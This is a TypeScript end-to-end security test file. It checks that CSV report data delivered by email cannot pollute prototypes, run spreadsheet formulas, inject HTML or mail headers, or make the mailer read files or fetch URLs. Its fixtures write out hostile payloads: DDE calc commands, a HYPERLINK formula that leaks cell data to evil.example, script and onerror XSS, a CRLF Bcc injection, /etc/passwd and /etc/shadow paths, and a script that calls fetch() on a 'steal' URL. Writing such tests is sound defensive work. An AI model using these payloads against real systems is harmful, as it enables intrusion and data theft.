import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { after, before, describe, test } from 'node:test';
import type { ReportRecord } from '../../../src/reports/record.js';
import { attachedFiles, htmlWithoutChart } from '../../helpers/email-parts.js';
import { startTestSmtpServer, type ReceivedMessage, type TestSmtpServer } from '../../helpers/smtp.js';
import { rawRequest, startHarness, startTrap, type Harness, type Trap } from './harness.js';

/*
 * Item 12: what a report CSV holds is data, never code, wherever it goes. End to end through
 * delivered reports: header names cannot touch an object prototype; cells a spreadsheet would run
 * are neutralized in the attached CSV and shown as escaped text in the email; names holding HTML or
 * CR/LF cannot add markup or mail headers; and no cell makes the mailer read a file or fetch a
 * URL. Unit-level coverage: test/unit/csv-neutralize.test.ts, test/unit/delivery-render-email.test.ts,
 * and the transport-level refusals in test/integration/delivery-mailer.test.ts ("content sandbox").
 */

let harness: Harness;
let smtp: TestSmtpServer;
let trap: Trap;
const RECIPIENT = 'ops@example.com';
const FORMULA_START = /^[=+\-@\t\r]/u;
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:e[+-]?\d+)?$/iu;

/** Sends `csv` inline as the callback of a new report with email delivery; returns the record and its email. */
async function deliver(csv: string): Promise<{ record: ReportRecord; message: ReceivedMessage }> {
  const report = await harness.newReport({ recipients: [RECIPIENT] });
  assert.equal((await rawRequest(report.callbackUrl, { headers: { 'content-type': 'text/csv' }, body: csv })).status, 202);
  const record = await harness.service.waitForStatus(report.id, ['delivered', 'failed', 'unrecognized']);
  assert.equal(record.status, 'delivered', JSON.stringify(record.error));
  await smtp.waitForMessages(1);
  const message = smtp.messages.find((entry) => entry.parsed.messageId === `<report-${report.id}@report-relay>`);
  assert.ok(message, 'the report email arrived');
  return { record, message };
}

function attachmentRows(message: ReceivedMessage): string[][] {
  const files = attachedFiles(message.parsed);
  assert.equal(files.length, 1, 'exactly one attached file: the CSV');
  const attachment = files[0]!;
  assert.equal(attachment.contentType, 'text/csv');
  return parse(attachment.content, { relax_column_count: true, columns: false });
}

/** Opening tags of an HTML document with their attribute text. */
function tags(html: string): Array<{ name: string; attributes: string }> {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/gu)].map((match) => ({ name: match[1]!.toLowerCase(), attributes: match[2] ?? '' }));
}

/** The tags and attributes the report template itself uses; anything else came from the data. */
function assertOnlyTemplateMarkup(html: string): void {
  const allowed = new Set([
    'html',
    'head',
    'meta',
    'title',
    'body',
    'table',
    'tr',
    'td',
    'th',
    'div',
    'span',
    'p',
    'b',
    'strong',
    'br',
    'ul',
    'li',
    'small',
    'thead',
    'tbody',
    'code',
  ]);
  for (const tag of tags(html)) {
    assert.ok(allowed.has(tag.name), `unexpected <${tag.name}> in the email`);
    assert.equal(/\b(?:href|src|on\w+|srcdoc|action|formaction)\s*=/iu.test(tag.attributes), false, `active attribute in <${tag.name}${tag.attributes}>`);
  }
}

describe('malicious CSV content, end to end', () => {
  before(async () => {
    smtp = await startTestSmtpServer();
    trap = (await startTrap('127.0.0.1'))!;
    harness = await startHarness({ name: 'sec-csv', env: { SMTP_URL: smtp.url } });
  });
  after(async () => {
    await harness.close();
    await smtp.close();
    assert.equal(trap.connections, 0, 'nothing in a report made the service connect anywhere');
    await trap.close();
  });

  test('__proto__, constructor and prototype headers change no prototype; their data is kept as ordinary columns', async () => {
    const objectKeys = Object.getOwnPropertyNames(Object.prototype).sort();
    const csv = [
      'resourceType,resourceId,resourceName,__proto__,constructor,prototype,hasOwnProperty,toString,valueOf,deviceCount,polluted',
      'organization,o1,Acme,5,6,7,8,9,10,3,"{""polluted"":""yes""}"',
      'organization,o2,Beta,1,1,1,1,1,1,4,yes',
      '',
    ].join('\n');
    // Twice in the same series, so the second report is also compared with the first.
    const first = await deliver(csv);
    const second = await deliver(csv);

    assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), objectKeys, 'Object.prototype gained no property');
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    assert.equal(typeof ({} as { hasOwnProperty: unknown }).hasOwnProperty, 'function');
    for (const { record } of [first, second]) {
      const totals = record.summary!.totals;
      assert.equal(Object.getPrototypeOf(totals), Object.prototype);
      assert.equal(Object.getOwnPropertyDescriptor(totals, '__proto__')?.value, 6, 'the __proto__ column is summed like any other');
      assert.equal(Object.getOwnPropertyDescriptor(totals, 'constructor')?.value, 7);
      assert.equal(Object.getOwnPropertyDescriptor(totals, 'hasOwnProperty')?.value, 9);
    }
    const change = Object.getOwnPropertyDescriptor(second.record.comparison!.totals, '__proto__')?.value as { previous: number } | undefined;
    assert.equal(change?.previous, 6, 'the comparison keeps __proto__ as an ordinary key');
    const header = attachmentRows(second.message)[0]!;
    assert.deepEqual(header.slice(3, 9), ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf']);
  });

  test('cells starting with =, +, -, @, tab or CR are neutralized in the attached CSV and inert text in the email', async () => {
    const rows = [
      ['resourceType', 'resourceId', 'resourceName', 'deviceCount', 'payloadBillableCount', '=HEADER()'],
      ['organization', 'o1', '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', '50', '-12.5', '=1+2'],
      ['organization', 'o2', "+cmd|' /C calc'!A0", '40', '+3', '@SUM(1+1)'],
      ['organization', 'o3', "-2+3+cmd|' /C calc'!A0", '30', '1e3', '\t=1+1'],
      ['organization', 'o4', "@SUM(1+1)*cmd|' /C calc'!A0", '20', '.5', '\r=1+1'],
      ['organization', 'o5', '\tTAB=cmd', '10', '0', '-'],
      ['organization', 'o6', 'Plain Name', '5', '-7', 'x=1'],
    ];
    const { message } = await deliver(stringify(rows));
    const attached = attachmentRows(message);
    assert.equal(attached.length, rows.length);
    rows.forEach((row, r) =>
      row.forEach((cell, c) => {
        const expected = FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
        assert.equal(attached[r]![c], expected, `row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`);
      }),
    );
    assert.ok(attached.flat().some((cell) => cell === '-12.5') && attached.flat().some((cell) => cell === '+3'), 'plain numbers stay numbers');

    const html = htmlWithoutChart(message.parsed);
    assertOnlyTemplateMarkup(html);
    assert.ok(html.includes('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click me&quot;)'), 'the formula is shown as escaped text');
    assert.equal(/evil\.example[^<]*<\/a>/u.test(html), false);
    assert.ok(message.parsed.text?.includes('=HYPERLINK('), 'the text part shows it as text too');
  });

  test('HTML and CR/LF in organization names and headers add no markup and no mail header', async () => {
    const rows = [
      ['resourceType', 'resourceId', 'resourceName', 'currentPeriodStart', 'deviceCount', '<b>bold</b>Count'],
      ['organization', 'o1', '<script>alert(1)</script>', '2026-01-01T00:00:00Z\r\nX-Injected: 1', '50', '1'],
      ['organization', 'o2', '<img src=x onerror=alert(1)>', '2026-01-01', '40', '2'],
      ['organization', 'o3', '"><a href="http://evil.example/">click</a>', '2026-01-01', '30', '3'],
      ['organization', 'o4', 'Evil\r\nBcc: victim@evil.example\r\nX-Injected: yes', '2026-01-01', '20', '4'],
      ['organization', 'o5', '</td></tr></table><h1>Fake notice</h1><table><tr><td>', '2026-01-01', '10', '5'],
    ];
    const { message } = await deliver(stringify(rows));

    assert.deepEqual(message.envelope.to, [RECIPIENT], 'no recipient was added');
    const rawHeaders = message.raw.toString('utf8').split('\r\n\r\n')[0] ?? '';
    assert.equal(/^(?:x-injected|bcc):/imu.test(rawHeaders), false, 'no header was injected');
    assert.equal(rawHeaders.includes('victim@evil.example'), false);
    assert.equal(message.parsed.headers.has('x-injected'), false);
    assert.equal(message.parsed.headers.has('bcc'), false);
    assert.equal(/[\r\n]/u.test(message.parsed.subject ?? ''), false);

    const html = htmlWithoutChart(message.parsed);
    assertOnlyTemplateMarkup(html);
    assert.equal(/<script|<img|<h1|<a\s/iu.test(html), false, 'no markup from the data');
    for (const escaped of ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;img src=x onerror=alert(1)&gt;', '&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;h1&gt;']) {
      assert.ok(html.includes(escaped), `shown as text: ${escaped}`);
    }
    assert.ok(html.includes('Evil Bcc: victim@evil.example X-Injected: yes'), 'CR/LF in a name became spaces');
  });

  test('cells naming files and URLs are plain text to the mailer: nothing is read, fetched or attached', async () => {
    const target = `http://127.0.0.1:${trap.port}/steal`;
    const rows = [
      ['resourceType', 'resourceId', 'resourceName', 'path', 'href', 'deviceCount'],
      ['organization', 'o1', 'file:///etc/passwd', '/etc/passwd', target, '5'],
      ['organization', 'o2', target, 'file:///etc/hostname', `cid:${target}`, '4'],
      ['organization', 'o3', '<img src="file:///etc/passwd">', `data:text/html,<script>fetch('${target}')</script>`, '/etc/shadow', '3'],
    ];
    const { record, message } = await deliver(stringify(rows));
    const attached = attachmentRows(message);
    assert.equal(attachedFiles(message.parsed)[0]!.filename, `losant-usage-${record.id}.csv`);
    assert.deepEqual(attached[1]!.slice(2, 5), ['file:///etc/passwd', '/etc/passwd', target], 'the cells are data in the CSV');
    const raw = message.raw.toString('utf8');
    assert.equal(/^root:/mu.test(raw), false, 'no line of /etc/passwd in the message');
    assert.equal(
      attachedFiles(message.parsed).some((attachment) => attachment.contentType !== 'text/csv'),
      false,
    );
    assertOnlyTemplateMarkup(htmlWithoutChart(message.parsed));
    assert.equal(trap.connections, 0, 'no URL was fetched');
  });
});
